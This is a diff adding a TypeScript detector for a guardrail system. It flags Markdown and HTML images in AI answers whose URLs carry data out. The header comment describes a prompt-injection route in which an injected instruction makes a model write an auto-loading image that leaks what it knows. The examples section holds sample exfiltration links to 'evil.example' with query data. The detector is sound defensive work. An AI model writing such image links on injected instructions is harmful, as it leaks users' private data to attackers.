@@ -1,0 +1,212 @@
+// SPDX-License-Identifier: Apache-2.0
+// Images in an answer whose address carries data. A chat window loads an image without a click, so an
+// injected instruction only has to make the model write one to send out what it knows.
+import { z } from 'zod';
+import { defineDetector, type Match } from '../../detector.ts';
+import { FEATURE } from '../../features.ts';
+
+const ALT_CHARS = 2_000;
+const URL_CHARS = 4_000;
+const TITLE_CHARS = 500;
+const TAG_CHARS = 4_096;
+/** Names of files and hosts are shorter; data that is worth stealing rarely is. */
+const SEGMENT_CHARS = 32;
+
+/** What stands at one place: `open` when it reaches the end of the text and could go on. */
+type Found =
+  | { readonly kind: 'open' }
+  | { readonly kind: 'none' }
+  | { readonly kind: 'link'; readonly end: number; readonly entity: string; readonly url: string };
+const OPEN: Found = { kind: 'open' };
+const NONE: Found = { kind: 'none' };
+
+const hostOf = (url: string): string | undefined =>
+  /^(?:https?:)?[/\\]{2}(?:[^/\\?#@]*@)?([^/\\?#:]*)/i.exec(url)?.[1]?.toLowerCase();
+
+/** True when loading `url` tells its host more than that somebody looked. */
+function carriesData(url: string, allowedHosts: readonly string[]): boolean {
+  const host = hostOf(url);
+  if (host === undefined) return false;
+  if (allowedHosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`))) return false;
+  const rest = url.slice(url.indexOf(host === '' ? '//' : host) + host.length);
+  const [path = '', query = ''] = rest.split('?', 2);
+  if (query.replace(/#.*$/, '') !== '' || rest.includes('&')) return true;
+  const parts = [...host.split('.'), ...path.replace(/#.*$/, '').split(/[/\\]/)];
+  return parts.some((part) => part.length >= SEGMENT_CHARS);
+}
+
+/** `![alt](url "title")`, from the exclamation mark. */
+function inlineImage(text: string, start: number): Found {
+  let depth = 0;
+  let at = start + 1;
+  for (; ; at++) {
+    if (at >= text.length) return OPEN;
+    if (at - start > ALT_CHARS) return NONE;
+    const char = text.charAt(at);
+    if (char === '\\') at++;
+    else if (char === '[') depth++;
+    else if (char === ']' && --depth === 0) break;
+  }
+  if (at + 1 >= text.length) return OPEN;
+  const next = text.charAt(at + 1);
+  if (next === '[') return referenceImage(text, at + 1);
+  return next === '(' ? destination(text, at + 2) : NONE;
+}
+
+/** The second bracket of `![alt][label]`: where its address stands is not known here. */
+function referenceImage(text: string, open: number): Found {
+  const stop = open + 200;
+  for (let at = open + 1; at < stop; at++) {
+    if (at >= text.length) return OPEN;
+    const char = text.charAt(at);
+    if (char === '\n') return NONE;
+    if (char === ']') return { kind: 'link', end: at + 1, entity: 'reference-image', url: '' };
+  }
+  return NONE;
+}
+
+/** The address, an optional title and the closing bracket. An address without end ends at its bound. */
+function destination(text: string, start: number): Found {
+  let at = start;
+  while (at - start < 8 && /\s/.test(text.charAt(at))) at++;
+  const angle = text.charAt(at) === '<';
+  const from = angle ? at + 1 : at;
+  let depth = 0;
+  for (at = from; at - from < URL_CHARS && at < text.length; at++) {
+    const char = text.charAt(at);
+    if (angle ? char === '>' || char === '\n' : /\s/.test(char)) break;
+    if (!angle && char === '(') depth++;
+    if (!angle && char === ')' && depth-- === 0) break;
+  }
+  if (at >= text.length) return OPEN;
+  const url = text.slice(from, at);
+  const close = text.indexOf(')', at);
+  const end = close < 0 || close - at > TITLE_CHARS ? -1 : close + 1;
+  if (end < 0 && text.length - at <= TITLE_CHARS) return OPEN;
+  return { kind: 'link', end: end < 0 ? at : end, entity: 'image', url };
+}
+
+const TAG = /^<(?:img|image|iframe|video|audio|source|embed|object|link|input|body|table|td|svg|script)\b/i;
+const TAG_NAME_CHARS = 8;
+const ADDRESS =
+  /\b(?:src|srcset|data|href|poster|background|style)\s{0,8}=\s{0,8}(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/gi;
+
+/** An HTML tag that loads what it names, from its angle bracket. */
+function htmlTag(text: string, start: number): Found {
+  const name = text.slice(start, start + TAG_NAME_CHARS + 2);
+  if (!TAG.test(name)) {
+    return start + name.length >= text.length && /^<[a-z]*$/i.test(name) ? OPEN : NONE;
+  }
+  let quote = '';
+  for (let at = start + 1; at - start < TAG_CHARS; at++) {
+    if (at >= text.length) return OPEN;
+    const char = text.charAt(at);
+    if (quote !== '') quote = char === quote ? '' : quote;
+    else if (char === '"' || char === "'") quote = char;
+    else if (char === '>') return tagLink(text.slice(start, at + 1), at + 1);
+  }
+  return NONE;
+}
+
+function tagLink(tag: string, end: number): Found {
+  let url = '';
+  for (const match of tag.matchAll(ADDRESS)) {
+    const value = (match[1] ?? match[2] ?? match[3] ?? '').replaceAll(/&(?:#63|#x3f|quest);/gi, '?');
+    const address = /(?:https?:)?[/\\]{2}[^\s"')]+/i.exec(value)?.[0] ?? '';
+    if (address.length > url.length) url = address;
+  }
+  return { kind: 'link', end, entity: 'html-image', url };
+}
+
+/** `[label]: url` at the start of a line. Many are honest links, so the address has to hold much. */
+function definition(text: string, start: number): Found {
+  const line = /^\[[^\]\n]{1,100}\](?::[ \t]{0,8}(?:<?(\S*)\s?)?)?/;
+  const found = line.exec(text.slice(start, start + 120 + URL_CHARS));
+  if (found === null) return /^\[[^\]\n]{0,100}$/.test(text.slice(start)) ? OPEN : NONE;
+  const end = start + found[0].length;
+  if (end >= text.length) return OPEN;
+  const url = (found[1] ?? '').replace(/>$/, '');
+  if (Math.max(...url.split(/[/\\?&=]/).map((part) => part.length)) < SEGMENT_CHARS) return NONE;
+  return { kind: 'link', end: end - 1, entity: 'image-definition', url };
+}
+
+const INTRODUCER = /!\[|<(?=[A-Za-z])|(?:^|\n)\[/g;
+const NEEDS = FEATURE.bang | FEATURE.less | FEATURE.bracket;
+
+/** Where the construct that `INTRODUCER` found at `index` begins, and what it is. */
+function construct(text: string, index: number): { readonly start: number; readonly found: Found } {
+  const char = text.charAt(index);
+  if (char === '!') return { start: index, found: inlineImage(text, index) };
+  if (char === '<') return { start: index, found: htmlTag(text, index) };
+  const start = char === '\n' ? index + 1 : index;
+  return { start, found: definition(text, start) };
+}
+
+export const detector = defineDetector({
+  id: 'output/markdown-exfiltration',
+  version: '1',
+  title: 'Image that carries data out',
+  summary:
+    'Finds Markdown and HTML images in answers whose address holds a query, a long path segment or a long host label, and reference-style images.',
+  why: 'Loading an image is a request that nobody has to click. Honest badges and charts with a query are found too: name their hosts in `allowed_hosts`. Links that have to be clicked are not found.',
+  taxonomy: ['owasp-llm-2025:LLM05', 'owasp-llm-2025:LLM02', 'mitre-atlas-5.6.0:AML.T0077'],
+  phases: ['response'],
+  streaming: { class: 'exact', holdChars: ALT_CHARS + URL_CHARS + TITLE_CHARS + TAG_CHARS },
+  view: 'folded',
+  severity: 'high',
+  options: z.strictObject({
+    allowed_hosts: z
+      .array(z.string().min(1).max(253).toLowerCase())
+      .max(1_000)
+      .default([])
+      .describe('Hosts, with all their subdomains, that images may be loaded from with any address'),
+  }),
+  examples: {
+    hits: [
+      { text: 'See ![chart](https://evil.example/c.png?d=secret) here', found: ['![chart](https://evil.example/c.png?d=secret)'] },
+      { text: '![a [b] c]( <//evil.example/?q> "t" )', found: ['![a [b] c]( <//evil.example/?q> "t" )'] },
+      { text: `![](https://e.example/${'QUJD'.repeat(10)})`, found: [`![](https://e.example/${'QUJD'.repeat(10)})`] },
+      { text: `![](https://${'a1'.repeat(20)}.e.example)`, found: [`![](https://${'a1'.repeat(20)}.e.example)`] },
+      { text: "x <IMG alt='>' src=https://evil.example/?x=1> y", found: ["<IMG alt='>' src=https://evil.example/?x=1>"] },
+      { text: '![pic][1] text', found: ['![pic][1]'] },
+      { text: `\n[1]: https://e.example/${'QUJD'.repeat(10)}\n`, found: [`[1]: https://e.example/${'QUJD'.repeat(10)}`] },
+    ],
+    misses: [
+      '![logo](https://example.com/logo.png)',
+      '![relative](img/a.png?raw=true)',
+      '[a link](https://example.com/search?q=cats)',
+      'if (![1, 2].includes(x)) return;',
+      'a < b && c > d',
+      '<p>text</p>',
+      '[1]: https://example.com/page?id=5',
+      '![never closed',
+    ],
+  },
+  inspect({ text, features }, from, { options }) {
+    if ((features & NEEDS) === 0) return [];
+    const matches: Match[] = [];
+    INTRODUCER.lastIndex = from;
+    for (let hit = INTRODUCER.exec(text); hit !== null; hit = INTRODUCER.exec(text)) {
+      const { start, found } = construct(text, hit.index);
+      INTRODUCER.lastIndex = start + 1;
+      if (found.kind !== 'link') continue;
+      const bad = found.entity === 'reference-image' || carriesData(found.url, options.allowed_hosts);
+      if (!bad) continue;
+      matches.push({ start, end: found.end, entity: found.entity, score: 0.99 });
+      INTRODUCER.lastIndex = found.end;
+    }
+    return matches;
+  },
+  pending({ text, features }, from) {
+    const last = text.charAt(text.length - 1);
+    const partial = last === '!' || last === '<' ? text.length - 1 : text.length;
+    if ((features & NEEDS) === 0) return partial;
+    INTRODUCER.lastIndex = from;
+    for (let hit = INTRODUCER.exec(text); hit !== null; hit = INTRODUCER.exec(text)) {
+      const { start, found } = construct(text, hit.index);
+      if (found.kind === 'open') return start;
+      INTRODUCER.lastIndex = found.kind === 'link' ? found.end : start + 1;
+    }
+    return partial;
+  },
+});
